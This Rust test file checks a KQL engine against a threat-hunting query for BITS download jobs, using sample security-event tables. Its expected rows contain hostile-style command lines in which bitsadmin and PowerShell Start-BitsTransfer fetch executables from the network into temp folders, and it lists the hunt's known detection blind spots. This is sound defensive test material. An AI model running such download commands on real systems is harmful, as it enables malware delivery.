//! The BITS hunt (queries/bits/bits_jobs.kql, byte for byte as in the seed) over the sample
//! tables in queries/bits/sample/, checked against what kql-semantics §8 predicts.
//!
//! The sample exercises: rows joined across the three tables on equal `TimeGenerated`, rows
//! present in one table only, two left rows sharing one key, the 90-day boundary (a row
//! exactly 90 days old is kept, one a second older is not), obfuscation with `^`, `"`, `+`
//! and `$`, spellings the case-sensitive patterns miss (`BItSAdMIN`, `-Source`), and empty
//! strings.

mod common;

use common::{expect, names, rows, sorted, workspace};
use kql_engine::{Engine, Error, Options, ResultTable};
use kql_parser::DiagnosticKind;

/// 2026-11-27T12:00:00Z: the hunt's `ago(90d)` is measured from here.
const NOW: i64 = 1_795_780_800_000_000_000;

fn engine(allow_missing_columns: bool) -> (Engine, String) {
    let bits = workspace().join("queries/bits");
    let query = std::fs::read_to_string(bits.join("bits_jobs.kql")).unwrap();
    let options = Options {
        now: Some(NOW),
        allow_missing_columns,
        ..Options::default()
    };
    let mut engine = Engine::new().with_options(options);
    for table in ["SecurityEvent", "DeviceProcessEvents", "DeviceEvents"] {
        let path = bits.join("sample").join(format!("{table}.csv"));
        engine.register_file(table, &path).unwrap();
    }
    (engine, query)
}

fn run_permissive(extra: &str) -> ResultTable {
    let (engine, query) = engine(true);
    let result = engine.run(&format!("{query}{extra}")).unwrap();
    assert_eq!(result.tables.len(), 1);
    result.tables.into_iter().next().unwrap()
}

#[test]
fn the_seed_query_is_the_seed_byte_for_byte() {
    let text = std::fs::read(workspace().join("queries/bits/bits_jobs.kql")).unwrap();
    // The checked-in copy of the seed hunt: `;` on their own lines, a `; ` with a trailing
    // space. Length and FNV-1a hash of the seed file pin every byte.
    assert!(text.windows(3).any(|w| w == b"; \n"));
    let fnv = text.iter().fold(0xcbf2_9ce4_8422_2325u64, |hash, byte| {
        (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3)
    });
    assert_eq!((text.len(), fnv), (SEED_LEN, SEED_FNV));
}

#[test]
fn strict_mode_rejects_process_command_line_2_like_kusto() {
    let (engine, query) = engine(false);
    let error = engine.run(&query).unwrap_err();
    let Error::Query(diagnostics) = error else {
        panic!("expected a query error")
    };
    assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
    let diagnostic = &diagnostics[0];
    assert_eq!(diagnostic.kind, DiagnosticKind::Semantic);
    assert_eq!(
        diagnostic.message,
        "`extend` operator: failed to resolve scalar expression named `ProcessCommandLine2`"
    );
    let span = diagnostic.span.unwrap();
    assert_eq!(&query[span.start..span.end], "ProcessCommandLine2");
    assert_eq!(kql_parser::line_col(&query, span.start), (29, 81));
    assert_eq!(
        diagnostic.hints,
        ["did you mean `ProcessCommandLine` or `ProcessCommandLine1`?"]
    );
}

#[test]
fn check_reports_the_same_error_without_data() {
    let query = std::fs::read_to_string(workspace().join("queries/bits/bits_jobs.kql")).unwrap();
    let error = Engine::new().check(&query).unwrap_err();
    assert_eq!(error.diagnostics().len(), 1);
    assert!(
        error.diagnostics()[0]
            .message
            .contains("`ProcessCommandLine2`")
    );
}

#[test]
fn permissive_mode_warns_once_and_runs() {
    let (engine, query) = engine(true);
    let result = engine.run(&query).unwrap();
    let warnings: Vec<_> = result.warnings.iter().map(|w| w.message.as_str()).collect();
    assert_eq!(
        warnings,
        ["`extend` operator: failed to resolve scalar expression named `ProcessCommandLine2`"]
    );
}

#[test]
fn output_columns_follow_kusto_join_naming() {
    let table = run_permissive("");
    let names = names(&table);
    assert_eq!(names.len(), 369, "kql-semantics Appendix A");
    assert_eq!(names[224], "Deobf_CommandLine");
    let from_appendix_a: Vec<&str> = APPENDIX_A_226_369.split_whitespace().collect();
    assert_eq!(names[225..], from_appendix_a[..]);
}

#[test]
fn permissive_mode_returns_the_predicted_rows() {
    let table = run_permissive(
        "\n| project TimeGenerated, TimeGenerated1, TimeGenerated2, DeviceName, Computer, \
         AccountName, Deobf_CommandLine",
    );
    let got = sorted(rows(&table));
    let jdoe_cmd = "bitsadmin /transfer myDownloadJob /download /priority normal \
                    https://www.7-zip.org/a/7z2301-x64.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\7z.exe";
    let jdoe_cmd_wrapped = format!("cmd.exe /c {jdoe_cmd}");
    let t0 = "2026-11-20T09:14:03.512Z";
    let expected = expect(&[
        // Two SecurityEvent rows share one time: each joins the DeviceProcessEvents row and
        // then the DeviceEvents row of that time.
        &[
            t0,
            t0,
            t0,
            "ws-fin-07.contoso.local",
            "WS-FIN-07.contoso.local",
            "jdoe",
            jdoe_cmd,
        ],
        &[
            t0,
            t0,
            t0,
            "ws-fin-07.contoso.local",
            "WS-FIN-07.contoso.local",
            "jdoe",
            &jdoe_cmd_wrapped,
        ],
        // `^` obfuscation removed; SecurityEvent only, so DeviceName falls back to Computer.
        &[
            "2026-11-22T17:41:55.08Z",
            "null",
            "null",
            "SRV-APP-02.contoso.local",
            "SRV-APP-02.contoso.local",
            "svc_build",
            "cmd.exe /c bitsadmin /transfer /download http://198.51.100.23/p.exe TEMP\\p.exe",
        ],
        // Exactly 90 days old: kept (`>=`).
        &[
            "2026-08-29T12:00:00Z",
            "null",
            "null",
            "SRV-APP-02.contoso.local",
            "SRV-APP-02.contoso.local",
            "svc_build",
            "bitsadmin /transfer Packages /download /priority foreground \
             https://github.com/supportgoogle34/files/raw/main/winfiles.zip winfiles.zip",
        ],
        // DeviceProcessEvents only: the left TimeGenerated is null, coalesce takes the right.
        &[
            "2026-11-21T13:22:47.9Z",
            "2026-11-21T13:22:47.9Z",
            "null",
            "ws-dev-11.contoso.local",
            "",
            "mlee",
            "powershell.exe -nop -c Start-BitsTransfer -Priority foreground -source \
             https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/CradleTest.txt \
             -destination C:\\Users\\Public\\c.txt",
        ],
        // `"` and `+` removed; matched through `Asynchronous ` although `-Source` is missed.
        &[
            "2026-11-22T02:47:31.0000001Z",
            "2026-11-22T02:47:31.0000001Z",
            "null",
            "srv-app-02.contoso.local",
            "",
            "svc_build",
            "powershell -w hidden -c Start-BitsTransfer -Source http://203.0.113.9/s.exe \
             -Destination env:TEMP\\s.exe -Asynchronous -Priority low",
        ],
        // DeviceEvents only, matched on the initiating command line after `$` removal; it
        // cannot join the DeviceProcessEvents-only rows (their left time is null).
        &[
            "2026-11-26T21:10:44.3Z",
            "null",
            "2026-11-26T21:10:44.3Z",
            "ws-hr-03.contoso.local",
            "",
            "asmith",
            "",
        ],
    ]);
    assert_eq!(got, expected);
}

#[test]
fn case_sensitive_patterns_miss_capitalised_spellings() {
    let table = run_permissive(
        "\n| where Deobf_CommandLine has_cs 'BItSAdMIN' or Deobf_CommandLine has 'Nubeva-RN-Sensor.msi'",
    );
    assert_eq!(table.num_rows(), 0, "documented blind spots of the hunt");
}

/// Size and FNV-1a hash of ../shared/seed/bits_jobs.kql.
const SEED_LEN: usize = 2324;
const SEED_FNV: u64 = 0xc4f439051e6d4909;

/// kql-semantics.md Appendix A, columns 226 to 369 of the joined output.
const APPENDIX_A_226_369: &str = "
Timestamp DeviceId1 DeviceName ActionType FileName FolderPath SHA1 SHA256
MD5 FileSize ProcessVersionInfoCompanyName ProcessVersionInfoProductName
ProcessVersionInfoProductVersion ProcessVersionInfoInternalFileName
ProcessVersionInfoOriginalFileName ProcessVersionInfoFileDescription ProcessId1
ProcessCommandLine ProcessIntegrityLevel ProcessTokenElevation ProcessCreationTime
AccountDomain1 AccountName1 AccountSid AccountUpn AccountObjectId LogonId
InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessAccountSid
InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessLogonId
InitiatingProcessIntegrityLevel InitiatingProcessTokenElevation InitiatingProcessSHA1
InitiatingProcessSHA256 InitiatingProcessMD5 InitiatingProcessFileName InitiatingProcessFileSize
InitiatingProcessVersionInfoCompanyName InitiatingProcessVersionInfoProductName
InitiatingProcessVersionInfoProductVersion InitiatingProcessVersionInfoInternalFileName
InitiatingProcessVersionInfoOriginalFileName InitiatingProcessVersionInfoFileDescription
InitiatingProcessId InitiatingProcessCommandLine InitiatingProcessCreationTime
InitiatingProcessFolderPath InitiatingProcessParentId InitiatingProcessParentFileName
InitiatingProcessParentCreationTime InitiatingProcessSignerType InitiatingProcessSignatureStatus
ReportId AppGuardContainerId AdditionalFields InitiatingProcessSessionId
IsInitiatingProcessRemoteSession InitiatingProcessRemoteSessionDeviceName
InitiatingProcessRemoteSessionIP CreatedProcessSessionId IsProcessRemoteSession
ProcessRemoteSessionDeviceName ProcessRemoteSessionIP TimeGenerated1 TenantId1 MachineGroup
SourceSystem1 Type1 InitiatingDeobf_CommandLine Deobf_CommandLine1
Timestamp1 DeviceId2 DeviceName1 ActionType1 FileName1 FolderPath1 SHA11
SHA2561 MD51 FileSize1 AccountDomain2 AccountName2 AccountSid1 RemoteUrl RemoteDeviceName
ProcessId2 ProcessCommandLine1 ProcessCreationTime1 ProcessTokenElevation1 LogonId1
RegistryKey RegistryValueName RegistryValueData RemoteIP RemotePort1 LocalIP LocalPort
FileOriginUrl FileOriginIP InitiatingProcessSHA11 InitiatingProcessSHA2561
InitiatingProcessMD51 InitiatingProcessFileName1 InitiatingProcessFileSize1
InitiatingProcessFolderPath1 InitiatingProcessId1 InitiatingProcessCommandLine1
InitiatingProcessCreationTime1 InitiatingProcessAccountDomain1 InitiatingProcessAccountName1
InitiatingProcessAccountSid1 InitiatingProcessAccountUpn1 InitiatingProcessAccountObjectId1
InitiatingProcessVersionInfoCompanyName1 InitiatingProcessVersionInfoProductName1
InitiatingProcessVersionInfoProductVersion1 InitiatingProcessVersionInfoInternalFileName1
InitiatingProcessVersionInfoOriginalFileName1 InitiatingProcessVersionInfoFileDescription1
InitiatingProcessParentId1 InitiatingProcessParentFileName1 InitiatingProcessParentCreationTime1
InitiatingProcessLogonId1 ReportId1 AppGuardContainerId1 AdditionalFields1
InitiatingProcessSessionId1 IsInitiatingProcessRemoteSession1
InitiatingProcessRemoteSessionDeviceName1 InitiatingProcessRemoteSessionIP1
CreatedProcessSessionId1 IsProcessRemoteSession1 ProcessRemoteSessionDeviceName1
ProcessRemoteSessionIP1 TimeGenerated2 TenantId2 MachineGroup1 SourceSystem2 Type2
InitiatingDeobf_CommandLine1 Deobf_CommandLine2";
